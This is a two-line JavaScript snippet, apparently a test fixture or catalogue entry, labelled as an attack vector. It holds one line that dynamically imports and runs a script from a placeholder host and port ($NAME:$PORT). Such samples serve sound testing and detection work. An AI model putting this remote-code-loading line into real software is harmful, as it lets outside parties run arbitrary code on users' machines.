// vector: dynamic import from a name
import("http://$NAME:$PORT/x.js");
